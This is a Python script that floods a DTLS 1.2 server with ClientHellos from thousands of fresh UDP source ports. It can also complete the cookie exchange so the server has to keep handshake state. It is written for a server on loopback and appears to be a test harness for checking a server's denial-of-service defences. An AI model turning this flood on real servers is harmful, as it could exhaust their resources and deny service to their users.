#!/usr/bin/env python3
"""A DTLS 1.2 flood against a server on loopback, each datagram from a fresh source port,
as a spoofer or a cheap attacker would send it (RFC 6347 §4.2.1).

  dtls_flood.py HOST PORT --ports N [--mode hello|cookie] [--rate R] [--until FILE]
                [--progress FILE]

hello:  from each port a ClientHello without a cookie, then 40 bytes of junk.
cookie: from each port a ClientHello, and when the HelloVerifyRequest comes back the
        ClientHello again with its cookie (a handshake the server must now keep, bounded),
        then nothing more.
Sends from at least N ports, and goes on with more while FILE (--until) does not exist
(at most 60 s). Prints one line: ports used, HelloVerifyRequests and ServerHellos seen.
"""
import argparse
import os
import random
import select
import socket
import struct
import sys
import time

SUITES = [0xC0A8, 0x00AE]  # TLS_PSK_WITH_AES_128_CCM_8, TLS_PSK_WITH_AES_128_CBC_SHA256


def client_hello(rng, cookie=b"", seq=0):
    body = b"\xfe\xfd" + bytes(rng.getrandbits(8) for _ in range(32)) + b"\x00"
    body += bytes([len(cookie)]) + cookie
    body += struct.pack("!H", 2 * len(SUITES)) + b"".join(struct.pack("!H", s) for s in SUITES)
    body += b"\x01\x00"  # compression: null
    n = len(body)
    hs = bytes([1]) + n.to_bytes(3, "big") + struct.pack("!H", seq) + (0).to_bytes(3, "big") + n.to_bytes(3, "big") + body
    return bytes([22]) + b"\xfe\xfd" + b"\x00\x00" + seq.to_bytes(6, "big") + struct.pack("!H", len(hs)) + hs


def handshake_type(d):
    return d[13] if len(d) > 13 and d[0] == 22 else None


def cookie_of(hvr):
    # record header 13, handshake header 12, server_version 2, then the cookie
    at = 13 + 12 + 2
    return hvr[at + 1:at + 1 + hvr[at]]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--ports", type=int, default=10000)
    ap.add_argument("--mode", choices=["hello", "cookie"], default="hello")
    ap.add_argument("--rate", type=float, default=0, help="ports per second (0: as fast as possible)")
    ap.add_argument("--until")
    ap.add_argument("--progress")
    a = ap.parse_args()
    rng = random.Random(7)
    family = socket.AF_INET6 if ":" in a.host else socket.AF_INET
    target = (a.host, a.port)
    window, seen = [], {"hvr": 0, "server_hello": 0}
    started = time.monotonic()

    def drain(s):
        while True:
            try:
                d = s.recv(4096)
            except BlockingIOError:
                return
            t = handshake_type(d)
            if t == 3:
                seen["hvr"] += 1
                if a.mode == "cookie":
                    s.send(client_hello(rng, cookie_of(d), seq=1))
            elif t == 2:
                seen["server_hello"] += 1

    ports = 0
    while True:
        done = ports >= a.ports and (a.until is None or os.path.exists(a.until))
        if done or time.monotonic() - started > 60:
            break
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.setblocking(False)
        s.connect(target)
        s.send(client_hello(rng))
        if a.mode == "hello":
            s.send(bytes(rng.getrandbits(8) for _ in range(40)))
        window.append(s)
        ports += 1
        # A port is closed once 200 newer ones were opened (about 80 ms at 2,500/s):
        # the time its HelloVerifyRequest has to come back.
        if len(window) >= 400:
            select.select(window, [], [], 0.01)
            for w in window[:200]:
                drain(w)
                if a.mode == "cookie":  # give the cookie ClientHello's answer a moment
                    select.select([w], [], [], 0.002)
                    drain(w)
                w.close()
            del window[:200]
        if a.progress and ports % 500 == 0:
            with open(a.progress, "w") as f:
                f.write(str(ports))
        if a.rate > 0:
            ahead = ports / a.rate - (time.monotonic() - started)
            if ahead > 0:
                time.sleep(ahead)
    time.sleep(0.3)
    for w in window:
        drain(w)
        w.close()
    print(f"ports {ports} hello_verify_requests {seen['hvr']} server_hellos {seen['server_hello']}")


if __name__ == "__main__":
    sys.exit(main())
